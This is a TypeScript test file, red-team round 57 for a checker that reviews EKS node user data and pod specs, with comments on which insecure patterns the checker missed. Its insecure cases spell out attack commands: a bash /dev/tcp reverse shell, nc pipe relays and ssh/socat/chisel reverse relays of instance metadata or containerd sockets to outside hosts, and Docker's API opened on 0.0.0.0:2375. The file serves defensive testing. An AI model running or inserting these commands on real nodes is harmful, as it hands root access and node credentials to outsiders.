// Red-team round 57 on EKS NODE user data and pod specs (fresh eyes on round 56's readers).
// Probed: reverse relays that dial out beyond the round-56 list (websocat ws:// client to a loopback server, autossh -R,
// a mkfifo pipe of two nc clients, a bash /dev/tcp reverse shell, rathole, localtunnel, tailscale funnel) and dial-out
// relays whose node end is instance metadata (ssh -R, socat, chisel R: to 169.254.169.254); links user data makes
// (relative targets, links to a directory, ln -t, a hostPath whose path is a link, a hard link to containerd's socket in
// a directory a pod mounts); systemd's BindPaths= as a link; socat's GOPEN: on a socket; socket units (a top-level
// socket.d drop-in, an own socket unit with Service=docker.service); chisel server --auth with an unauthenticated
// --backend; Podman's API socket in a directory a root pod mounts; 3proxy run by its packaged unit; ec2-user's bus
// socket as a Socket hostPath.
// Secure neighbours: cloudflared proxy-dns, chisel server with auth from a secret, HOST= for chisel, 3proxy with a -l
// log path, ordinary links beside a loopback relay, websocat between two other hosts, a docker.socket drop-in only
// tightening SocketMode, Podman's API on its default socket.
// Misses (12 insecure, 2 secure): dial-out relays of a loopback server not read (websocat ws:// client, a mkfifo pipe of
// two nc clients, a bash /dev/tcp reverse shell, rathole, localtunnel, tailscale funnel); systemd BindPaths= as a link to
// containerd's socket; a top-level socket.d drop-in and an own socket unit with Service=docker.service putting the Docker
// API on 0.0.0.0:2375; a rootful Podman API socket in a directory a root pod mounts read-only; chisel server --auth with
// an unauthenticated --backend to miniserve /; 3proxy's packaged unit running an open configuration. Secure refused: HOST=
// for chisel server (loopback), 3proxy's glued `-l/var/lib/...` read as an `-i` address.
// Refused as they should be: autossh -R, dial-out relays of instance metadata (ssh -R, socat, chisel R:), relative links,
// links to a directory, ln -t, a hostPath whose path is a link, a hard link in a mounted directory, socat GOPEN:, ncat
// connect mode to containerd, ec2-user's bus socket, pproxy with a second loopback listener, 3proxy's service -i.
import {
    describeNodeCases,
    devNodeCase,
    devNodeScript,
    hostPathDaemonSet,
    NodeCase,
    NON_ROOT,
    rootNoCaps,
    systemdUnit,
} from "./nodeBuilders";
import { Resources } from "./support";

/** A server bound to loopback serving / (accepted alone: round 48 "a loopback-bound server keeps what it serves"). */
const LO_ROOT = "nohup miniserve -i 127.0.0.1 --port 8000 / &";

/** A heredoc writing `path` with `lines`. */
const file = (path: string, lines: string[], tag = "CONF") => [`cat > ${path} <<'${tag}'`, ...lines, tag];

/** What a relay to miniserve / from beyond loopback (or to another host) is refused as. */
const RELAY = /served beyond loopback|does not read|forward|shell|another host/;
/** What a relay of a root-power socket is refused as. */
const SOCKET = /containerd|socket|runtime|served beyond loopback|does not read|forward|docker|podman/;
/** What a relay of instance metadata (the node role) is refused as. */
const IMDS = /instance metadata|169\.254|node role|forward|another host|does not read/;
/** What an open proxy or tunnel server on the node's addresses is refused as. */
const PROXY = /proxy|does not read|instance metadata|served beyond loopback|forward|tunnel/;
/** What a pod mounting a root-power socket is refused as. */
const MOUNT = /containerd|socket|runtime|user|run|hostPath|node|podman|link/;

const insecure: NodeCase[] = [
    // --- Dial-out relays beyond the round-56 list ---
    // Was a MISS (fixed in round 57): websocat README (vi/websocat, "websocat [FLAGS] <addr1> <addr2>": it connects both addresses and relays between
    // them): a ws:// client to bastion.example.com and tcp:127.0.0.1:8000 hand miniserve / (root's files) to whoever holds the
    // bastion's WebSocket endpoint; dialledOutForwarders reads socat/ncat/chisel/cloudflared/ngrok/bore/frpc, not websocat.
    devNodeCase(
        "websocat -E --binary ws://bastion.example.com:8080/relay tcp:127.0.0.1:8000 (a reverse relay) before miniserve /",
        devNodeScript("dev-websocat-reverse-lo-nodes", [
            LO_ROOT,
            "nohup websocat -E --binary ws://bastion.example.com:8080/relay tcp:127.0.0.1:8000 &",
        ]),
        RELAY,
    ),
    devNodeCase(
        "autossh -M 0 -f -N -R 8080:127.0.0.1:8000 ops@bastion.example.com before miniserve /",
        devNodeScript("dev-autossh-reverse-lo-nodes", [
            LO_ROOT,
            "autossh -M 0 -f -N -o ExitOnForwardFailure=yes -R 8080:127.0.0.1:8000 ops@bastion.example.com",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 57): nc(1)/ncat: two clients joined by a pipe and a FIFO (the classic relay) connect bastion.example.com:4444 to
    // miniserve / on loopback; no reader sees a relay in a pipeline of two network clients (fail closed on a FIFO joining them).
    devNodeCase(
        "mkfifo /tmp/f; nc bastion.example.com 4444 < /tmp/f | nc 127.0.0.1 8000 > /tmp/f (a pipe relay) before miniserve /",
        devNodeScript("dev-nc-fifo-reverse-lo-nodes", [
            LO_ROOT,
            "mkfifo /tmp/f",
            "nohup sh -c 'nc bastion.example.com 4444 < /tmp/f | nc 127.0.0.1 8000 > /tmp/f' &",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 57): bash(1) REDIRECTION: "/dev/tcp/host/port ... bash attempts to open the corresponding TCP socket": root's
    // interactive shell on the node is handed to whoever holds bastion.example.com:4444 (the node role, every pod's token).
    devNodeCase(
        "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1 (a root reverse shell)",
        devNodeScript("dev-bash-devtcp-shell-nodes", [
            "nohup bash -c 'bash -i >& /dev/tcp/bastion.example.com/4444 0>&1' &",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 57): rathole README (rapiz1/rathole, client.toml: [client] remote_addr, [client.services.X] local_addr "the address
    // of the service that needs to be forwarded"): the server exposes miniserve / on its bind_addr; not read as frpc is.
    devNodeCase(
        "rathole /etc/rathole/client.toml (service local_addr 127.0.0.1:8000, remote_addr bastion) before miniserve /",
        devNodeScript("dev-rathole-client-lo-nodes", [
            LO_ROOT,
            "mkdir -p /etc/rathole",
            ...file("/etc/rathole/client.toml", [
                "[client]",
                'remote_addr = "bastion.example.com:2333"',
                "[client.services.files]",
                'token = "use_a_secret_that_only_you_know"',
                'local_addr = "127.0.0.1:8000"',
            ]),
            "nohup rathole /etc/rathole/client.toml &",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 57): localtunnel README (localtunnel/localtunnel, `lt --port 8000`: "your url is: https://....loca.lt"): a public
    // URL relayed to localhost:8000, i.e. miniserve /; not read as ngrok/bore are.
    devNodeCase(
        "lt --port 8000 --subdomain node-files (localtunnel, a public loca.lt URL) before miniserve /",
        devNodeScript("dev-localtunnel-lo-nodes", [LO_ROOT, "nohup lt --port 8000 --subdomain node-files &"]),
        RELAY,
    ),
    // Was a MISS (fixed in round 57): Tailscale docs, "tailscale funnel command": "tailscale funnel lets you share a local service over the
    // internet" (target a port: localhost:8000); miniserve / becomes public; not read as cloudflared/ngrok are (tailscale
    // serve, tailnet-only, is the same relay to every tailnet member).
    devNodeCase(
        "tailscale funnel --bg 8000 (public internet to localhost:8000) before miniserve /",
        devNodeScript("dev-tailscale-funnel-lo-nodes", [
            LO_ROOT,
            'tailscale up --auth-key "$TS_AUTHKEY"',
            "tailscale funnel --bg 8000",
        ]),
        RELAY,
    ),
    // --- Dial-out relays of instance metadata (the node role) ---
    devNodeCase(
        "ssh -N -R 8080:169.254.169.254:80 ops@bastion.example.com (the bastion reads the node role)",
        devNodeScript("dev-ssh-reverse-imds-nodes", [
            "nohup ssh -N -R 8080:169.254.169.254:80 ops@bastion.example.com &",
        ]),
        IMDS,
    ),
    devNodeCase(
        "socat TCP:bastion.example.com:4444,forever TCP:169.254.169.254:80 (reverse relay of instance metadata)",
        devNodeScript("dev-socat-reverse-imds-nodes", [
            "nohup socat TCP:bastion.example.com:4444,forever,interval=5 TCP:169.254.169.254:80 &",
        ]),
        IMDS,
    ),
    devNodeCase(
        "chisel client https://tunnel.example.com R:8080:169.254.169.254:80 (instance metadata on the tunnel server)",
        devNodeScript("dev-chisel-reverse-imds-nodes", [
            "nohup chisel client https://tunnel.example.com R:8080:169.254.169.254:80 &",
        ]),
        IMDS,
    ),
    devNodeCase(
        "socat TCP-LISTEN:8080,fork TCP:169.254.169.254:80 (a listener relaying instance metadata: the reference form)",
        devNodeScript("dev-socat-listen-imds-nodes", ["nohup socat TCP-LISTEN:8080,fork TCP:169.254.169.254:80 &"]),
        IMDS,
    ),
    // --- Links user data makes ---
    devNodeCase(
        "ln -s ../containerd/containerd.sock /run/relay/ctr.sock (relative target); socat TCP-LISTEN:10000 to it",
        devNodeScript("dev-link-relative-containerd-nodes", [
            "mkdir -p /run/relay",
            "ln -s ../containerd/containerd.sock /run/relay/ctr.sock",
            "nohup socat TCP-LISTEN:10000,fork UNIX-CONNECT:/run/relay/ctr.sock &",
        ]),
        SOCKET,
    ),
    devNodeCase(
        "ln -s /run/containerd /run/ctr (a link to the directory); socat TCP-LISTEN:10000 to /run/ctr/containerd.sock",
        devNodeScript("dev-link-dir-containerd-nodes", [
            "ln -s /run/containerd /run/ctr",
            "nohup socat TCP-LISTEN:10000,fork UNIX-CONNECT:/run/ctr/containerd.sock &",
        ]),
        SOCKET,
    ),
    devNodeCase(
        "ln -s -t /run/relay /run/containerd/containerd.sock (--target-directory); socat to /run/relay/containerd.sock",
        devNodeScript("dev-link-target-dir-containerd-nodes", [
            "mkdir -p /run/relay",
            "ln -s -t /run/relay /run/containerd/containerd.sock",
            "nohup socat TCP-LISTEN:10000,fork UNIX-CONNECT:/run/relay/containerd.sock &",
        ]),
        SOCKET,
    ),
    devNodeCase(
        "ln -s /run/containerd /opt/ctr; a root DaemonSet mounting hostPath /opt/ctr read-only (kubelet follows the link)",
        (r: Resources) => {
            devNodeScript("dev-link-hostpath-containerd-nodes", ["ln -s /run/containerd /opt/ctr"])(r);
            hostPathDaemonSet(r, "ctr-link", "tools", "/opt/ctr", rootNoCaps, true, "Directory");
        },
        MOUNT,
    ),
    devNodeCase(
        "ln /run/containerd/containerd.sock /run/tools/ctr.sock (a hard link); a root DaemonSet mounting /run/tools read-only",
        (r: Resources) => {
            devNodeScript("dev-hardlink-hostpath-containerd-nodes", [
                "mkdir -p /run/tools",
                "ln /run/containerd/containerd.sock /run/tools/ctr.sock",
            ])(r);
            hostPathDaemonSet(r, "ctr-hardlink", "tools", "/run/tools", rootNoCaps, true, "Directory");
        },
        MOUNT,
    ),
    // Was a MISS (fixed in round 57): systemd.exec(5) BindPaths=: "Configures unit-specific bind mounts ... source path:destination path": in the
    // unit's namespace /run/relay.sock IS containerd's socket, so socat relays containerd to every address; BindPaths=
    // is not read as a link (writtenLinks reads ln, cp -s/-l, tmpfiles.d L).
    devNodeCase(
        "a unit with BindPaths=/run/containerd/containerd.sock:/run/relay.sock running socat TCP-LISTEN:10000 to /run/relay.sock",
        devNodeScript(
            "dev-bindpaths-containerd-nodes",
            systemdUnit("ctr-relay", [
                "BindPaths=/run/containerd/containerd.sock:/run/relay.sock",
                "ExecStart=/usr/bin/socat TCP-LISTEN:10000,fork UNIX-CONNECT:/run/relay.sock",
            ]),
        ),
        SOCKET,
    ),
    devNodeCase(
        "socat TCP-LISTEN:10000,fork GOPEN:/run/containerd/containerd.sock (GOPEN connects to a socket)",
        devNodeScript("dev-socat-gopen-containerd-nodes", [
            "nohup socat TCP-LISTEN:10000,fork GOPEN:/run/containerd/containerd.sock &",
        ]),
        SOCKET,
    ),
    // --- Socket units and root-power APIs ---
    // Was a MISS (fixed in round 57): systemd.unit(5), drop-in directories: besides foo.socket.d/, the unit-type directory socket.d/ holds
    // drop-ins applied to every socket unit (systemd 246+; AL2023 has 252): docker.socket listens on 0.0.0.0:2375, the root
    // Docker API, unauthenticated, to every pod; ROOT_API_SOCKET_UNITS reads docker.socket.d/ only.
    devNodeCase(
        "docker installed; /etc/systemd/system/socket.d/10-tcp.conf ListenStream=0.0.0.0:2375 (every socket unit's drop-in)",
        devNodeScript("dev-socket-d-toplevel-docker-nodes", [
            "dnf install -y docker",
            "mkdir -p /etc/systemd/system/socket.d",
            ...file("/etc/systemd/system/socket.d/10-tcp.conf", ["[Socket]", "ListenStream=0.0.0.0:2375"]),
            "systemctl daemon-reload",
            "systemctl enable --now docker.socket",
        ]),
        SOCKET,
    ),
    // Was a MISS (fixed in round 57): systemd.socket(5) Service=: "Specifies the service unit name to activate on incoming traffic"; dockerd's
    // packaged ExecStart `-H fd://` takes every socket systemd passes (Docker docs, dockerd "-H fd://" socket activation):
    // the root Docker API on 0.0.0.0:2375. Only docker.socket/podman.socket (and own units running dockerd/podman) are read.
    devNodeCase(
        "docker installed; own docker-tcp.socket with ListenStream=0.0.0.0:2375 and Service=docker.service",
        devNodeScript("dev-own-socket-docker-service-nodes", [
            "dnf install -y docker",
            ...file("/etc/systemd/system/docker-tcp.socket", [
                "[Unit]",
                "Description=Docker API on TCP",
                "[Socket]",
                "ListenStream=0.0.0.0:2375",
                "Service=docker.service",
                "[Install]",
                "WantedBy=sockets.target",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now docker-tcp.socket docker.service",
        ]),
        SOCKET,
    ),
    // Was a MISS (fixed in round 57): podman-system-service(1): the API (root's, rootful) listens on the URI given; a socket on a read-only mount
    // still accepts connect() (podSpec.ts NODE_SECRETS /run/nri note), and a uid-0 pod passes its root:root mode: the pod
    // runs privileged containers on the node. podmanServiceOpenings counts only pod-WRITABLE directories.
    devNodeCase(
        "podman system service --time=0 unix:///run/podman-api/podman.sock; a root DaemonSet mounting /run/podman-api read-only",
        (r: Resources) => {
            devNodeScript("dev-podman-api-dir-nodes", [
                "mkdir -p /run/podman-api",
                "nohup podman system service --time=0 unix:///run/podman-api/podman.sock &",
            ])(r);
            hostPathDaemonSet(r, "podman-api", "tools", "/run/podman-api", rootNoCaps, true, "Directory");
        },
        MOUNT,
    ),
    devNodeCase(
        "ncat --sh-exec 'socat - UNIX-CONNECT:/run/containerd/containerd.sock' bastion.example.com 4444 (connect mode)",
        devNodeScript("dev-ncat-connect-exec-containerd-nodes", [
            `nohup ncat --sh-exec "socat - UNIX-CONNECT:/run/containerd/containerd.sock" bastion.example.com 4444 &`,
        ]),
        SOCKET,
    ),
    devNodeCase(
        "linger for ec2-user; a uid-1000 DaemonSet mounting the Socket /run/user/1000/bus read-only",
        (r: Resources) => {
            devNodeScript("dev-linger-ec2-user-bus-nodes", ["loginctl enable-linger ec2-user"])(r);
            hostPathDaemonSet(
                r,
                "user-bus",
                "tools",
                "/run/user/1000/bus",
                { ...NON_ROOT, runAsUser: 1000, runAsGroup: 1000 },
                true,
                "Socket",
            );
        },
        MOUNT,
    ),
    // --- Proxies and tunnel servers ---
    // Was a MISS (fixed in round 57): chisel README (`chisel server --help`): "--backend, Specifies another HTTP server to proxy requests to when
    // chisel receives a normal HTTP request": --auth guards tunnels only, so miniserve / is served on every address
    // unauthenticated; chiselListeners returns nothing once --auth is given and never reads --backend.
    devNodeCase(
        "chisel server --port 8080 --auth ops:s3cret --backend http://127.0.0.1:8000 (plain HTTP to the backend) before miniserve /",
        devNodeScript("dev-chisel-backend-lo-nodes", [
            LO_ROOT,
            "nohup chisel server --port 8080 --auth ops:s3cret --backend http://127.0.0.1:8000 &",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 57): 3proxy's packaged unit (3proxy/3proxy scripts/3proxy.service: ExecStart=/bin/3proxy ${CONFIGFILE},
    // CONFIGFILE=/etc/3proxy/3proxy.cfg) runs the open proxy user data wrote (proxy(8) -i: "By default connection to any
    // interface is accepted"): instance metadata to every pod; `systemctl enable --now 3proxy` is not read as running it.
    devNodeCase(
        "3proxy's packaged unit (systemctl enable --now 3proxy) reading /etc/3proxy/3proxy.cfg (auth none; proxy -p3128)",
        devNodeScript("dev-3proxy-packaged-nodes", [
            "dnf install -y 3proxy",
            "mkdir -p /etc/3proxy",
            ...file("/etc/3proxy/3proxy.cfg", ["nserver 10.100.0.10", "auth none", "proxy -p3128", "socks -p1080"]),
            "systemctl enable --now 3proxy",
        ]),
        PROXY,
    ),
    devNodeCase(
        "pproxy -l http://:8080 -l socks5://127.0.0.1:1080 (the second listener loopback, the first every address)",
        devNodeScript("dev-pproxy-two-listeners-nodes", ["nohup pproxy -l http://:8080 -l socks5://127.0.0.1:1080 &"]),
        PROXY,
    ),
    devNodeCase(
        "3proxy.cfg internal 127.0.0.1 then proxy -i0.0.0.0 -p3128 (the service's -i wins)",
        devNodeScript("dev-3proxy-service-i-nodes", [
            ...file("/etc/3proxy.cfg", ["internal 127.0.0.1", "auth none", "proxy -i0.0.0.0 -p3128"]),
            "nohup 3proxy /etc/3proxy.cfg &",
        ]),
        PROXY,
    ),
    // Round 57 neighbours of the fixes: the same classes under other spellings.
    devNodeCase(
        "nc bastion.example.com 4444 < /tmp/f | nc 127.0.0.1 8000 > /tmp/f (a pipe relay on the script's own line)",
        devNodeScript("dev-nc-fifo-toplevel-lo-nodes", [
            LO_ROOT,
            "mkfifo /tmp/f",
            "nc bastion.example.com 4444 < /tmp/f | nc 127.0.0.1 8000 > /tmp/f &",
        ]),
        RELAY,
    ),
    devNodeCase(
        "rtunnel --server tunnel.example.com:443 --local 127.0.0.1:8000 (a relay program no reader knows) before miniserve /",
        devNodeScript("dev-unknown-relay-lo-nodes", [
            LO_ROOT,
            "nohup rtunnel --server tunnel.example.com:443 --local 127.0.0.1:8000 &",
        ]),
        RELAY,
    ),
    devNodeCase(
        "tailscale serve --bg 8000 (every tailnet member to localhost:8000) before miniserve /",
        devNodeScript("dev-tailscale-serve-lo-nodes", [
            LO_ROOT,
            'tailscale up --auth-key "$TS_AUTHKEY"',
            "tailscale serve --bg 8000",
        ]),
        RELAY,
    ),
    devNodeCase(
        "websocat ws://bastion.example.com/relay unix:/run/containerd/containerd.sock (a reverse relay of containerd)",
        devNodeScript("dev-websocat-reverse-containerd-nodes", [
            "nohup websocat -E --binary ws://bastion.example.com/relay unix:/run/containerd/containerd.sock &",
        ]),
        SOCKET,
    ),
    devNodeCase(
        "docker installed; /etc/systemd/system/socket.d/90-tcp.conf ListenStream=2375 (a bare port: every address)",
        devNodeScript("dev-socket-d-port-docker-nodes", [
            "dnf install -y docker",
            "mkdir -p /etc/systemd/system/socket.d",
            ...file("/etc/systemd/system/socket.d/90-tcp.conf", ["[Socket]", "ListenStream=2375"]),
            "systemctl enable --now docker.socket",
        ]),
        SOCKET,
    ),
    devNodeCase(
        "podman system service unix:///opt/podman/api.sock; a root DaemonSet mounting /opt/podman read-only",
        (r: Resources) => {
            devNodeScript("dev-podman-api-opt-nodes", [
                "mkdir -p /opt/podman",
                "nohup podman system service --time=0 unix:///opt/podman/api.sock &",
            ])(r);
            hostPathDaemonSet(r, "podman-opt", "tools", "/opt/podman", rootNoCaps, true, "Directory");
        },
        MOUNT,
    ),
    devNodeCase(
        "a unit with BindReadOnlyPaths=/run/containerd:/run/ctr running socat TCP-LISTEN:10000 to /run/ctr/containerd.sock",
        devNodeScript(
            "dev-bindropaths-containerd-nodes",
            systemdUnit("ctr-relay-ro", [
                "BindReadOnlyPaths=/run/containerd:/run/ctr",
                "ExecStart=/usr/bin/socat TCP-LISTEN:10000,fork UNIX-CONNECT:/run/ctr/containerd.sock",
            ]),
        ),
        SOCKET,
    ),
];

const secure: NodeCase[] = [
    devNodeCase(
        "cloudflared proxy-dns --port 5053 --upstream https://1.1.1.1/dns-query (a DNS-over-HTTPS client on localhost)",
        devNodeScript("dev-cloudflared-proxy-dns-nodes", [
            "nohup cloudflared proxy-dns --port 5053 --upstream https://1.1.1.1/dns-query &",
        ]),
    ),
    devNodeCase(
        'chisel server --port 8080 --auth "$CHISEL_AUTH" (every address, authenticated from a secret)',
        devNodeScript("dev-chisel-server-auth-var-nodes", [
            'CHISEL_AUTH="$(aws secretsmanager get-secret-value --secret-id chisel-auth --query SecretString --output text)"',
            'nohup chisel server --port 8080 --auth "$CHISEL_AUTH" &',
        ]),
    ),
    // Was a MISS (secure refused, fixed in round 57): chisel README, `chisel server --help`: "--host ... (defaults the environment variable HOST
    // and falls back to 0.0.0.0)": HOST=127.0.0.1 binds loopback; chiselListeners reads only --host.
    devNodeCase(
        "HOST=127.0.0.1 chisel server --port 8080 (the HOST variable: loopback only)",
        devNodeScript("dev-chisel-server-host-env-nodes", ["HOST=127.0.0.1 nohup chisel server --port 8080 &"]),
        undefined,
    ),
    // Was a MISS (secure refused, fixed in round 57): proxy(8): "proxy [-d][-a] [-l[[@]logfile]] [-pport] [-iinternal_ip]": -l takes an OPTIONAL
    // glued log file; threeProxyServices' getopt reads `-l/var/lib/...` as a bundle whose `i` takes "b/3proxy/proxy.log"
    // as a listen address ("3proxy proxy on 127.0.0.1, b/3proxy/proxy.log").
    devNodeCase(
        "3proxy.cfg auth none; proxy -i127.0.0.1 -p3128 -l/var/lib/3proxy/proxy.log (a log file glued to -l)",
        devNodeScript("dev-3proxy-log-lo-nodes", [
            "mkdir -p /var/lib/3proxy",
            ...file("/etc/3proxy.cfg", ["auth none", "proxy -i127.0.0.1 -p3128 -l/var/lib/3proxy/proxy.log"]),
            "nohup 3proxy /etc/3proxy.cfg &",
        ]),
        undefined,
    ),
    devNodeCase(
        "ordinary links (localtime, aws on PATH) beside socat TCP-LISTEN:5432,bind=127.0.0.1 to db.internal.example.com",
        devNodeScript("dev-links-lo-relay-nodes", [
            "ln -sf /usr/share/zoneinfo/Europe/London /etc/localtime",
            "ln -sf /usr/local/aws-cli/v2/current/bin/aws /usr/local/bin/aws",
            "nohup socat TCP-LISTEN:5432,bind=127.0.0.1,reuseaddr,fork TCP:db.internal.example.com:5432 &",
        ]),
    ),
    devNodeCase(
        "websocat -E --binary ws://relay.example.com/tunnel tcp:10.0.5.20:8000 (between two other hosts)",
        devNodeScript("dev-websocat-remote-remote-nodes", [
            "nohup websocat -E --binary ws://relay.example.com/tunnel tcp:10.0.5.20:8000 &",
        ]),
    ),
    devNodeCase(
        "docker installed; a docker.socket drop-in only tightening SocketMode=0600",
        devNodeScript("dev-docker-socket-mode-nodes", [
            "dnf install -y docker",
            "mkdir -p /etc/systemd/system/docker.socket.d",
            ...file("/etc/systemd/system/docker.socket.d/10-mode.conf", ["[Socket]", "SocketMode=0600"]),
            "systemctl daemon-reload",
            "systemctl enable --now docker.socket",
        ]),
    ),
    devNodeCase(
        "podman system service --time=0 (its default socket /run/podman/podman.sock)",
        devNodeScript("dev-podman-service-default-nodes", ["nohup podman system service --time=0 &"]),
    ),
    // Round 57 neighbours of the fixes, secure.
    devNodeCase(
        "nc db.internal.example.com 5432 < /tmp/f | nc 10.0.5.20 5432 > /tmp/f (a pipe between two other hosts)",
        devNodeScript("dev-nc-fifo-remote-remote-nodes", [
            "mkfifo /tmp/f",
            "nohup sh -c 'nc db.internal.example.com 5432 < /tmp/f | nc 10.0.5.20 5432 > /tmp/f' &",
        ]),
    ),
    devNodeCase(
        "bash -c 'echo ping > /dev/tcp/health.example.com/80' (a probe, no shell on the connection)",
        devNodeScript("dev-bash-devtcp-probe-nodes", ["bash -c 'echo ping > /dev/tcp/health.example.com/80'"]),
    ),
    devNodeCase(
        "rathole client.toml with local_addr 10.0.5.20:8000 (another host's service, nothing of the node's)",
        devNodeScript("dev-rathole-client-remote-nodes", [
            "mkdir -p /etc/rathole",
            ...file("/etc/rathole/client.toml", [
                "[client]",
                'remote_addr = "bastion.example.com:2333"',
                "[client.services.files]",
                'local_addr = "10.0.5.20:8000"',
            ]),
            "nohup rathole /etc/rathole/client.toml &",
        ]),
    ),
    devNodeCase(
        "tailscale funnel reset before miniserve / (turns Funnel off)",
        devNodeScript("dev-tailscale-funnel-reset-nodes", [LO_ROOT, "tailscale funnel reset"]),
    ),
    devNodeCase(
        "chisel server --port 8080 --auth ops:s3cret --backend http://10.0.5.20:8000 (another host's server)",
        devNodeScript("dev-chisel-backend-remote-nodes", [
            "nohup chisel server --port 8080 --auth ops:s3cret --backend http://10.0.5.20:8000 &",
        ]),
    ),
    devNodeCase(
        "3proxy's packaged unit reading /etc/3proxy/3proxy.cfg with auth strong",
        devNodeScript("dev-3proxy-packaged-strong-nodes", [
            "dnf install -y 3proxy",
            "mkdir -p /etc/3proxy",
            ...file("/etc/3proxy/3proxy.cfg", [
                "nserver 10.100.0.10",
                "users ops:CL:s3cret",
                "auth strong",
                "allow ops",
                "proxy -p3128",
            ]),
            "systemctl enable --now 3proxy",
        ]),
    ),
    devNodeCase(
        "docker installed; a top-level socket.d drop-in only tightening SocketMode=0600",
        devNodeScript("dev-socket-d-mode-nodes", [
            "dnf install -y docker",
            "mkdir -p /etc/systemd/system/socket.d",
            ...file("/etc/systemd/system/socket.d/10-mode.conf", ["[Socket]", "SocketMode=0600"]),
            "systemctl enable --now docker.socket",
        ]),
    ),
    devNodeCase(
        "a unit with BindReadOnlyPaths=/etc/pki/tls/certs running socat TCP-LISTEN:5432,bind=127.0.0.1 to a database",
        devNodeScript(
            "dev-bindropaths-certs-nodes",
            systemdUnit("db-relay", [
                "BindReadOnlyPaths=/etc/pki/tls/certs",
                "ExecStart=/usr/bin/socat TCP-LISTEN:5432,bind=127.0.0.1,reuseaddr,fork TCP:db.internal.example.com:5432",
            ]),
        ),
    ),
];

describeNodeCases("red team 57: node user data and pod specs (fresh eyes)", insecure, secure);
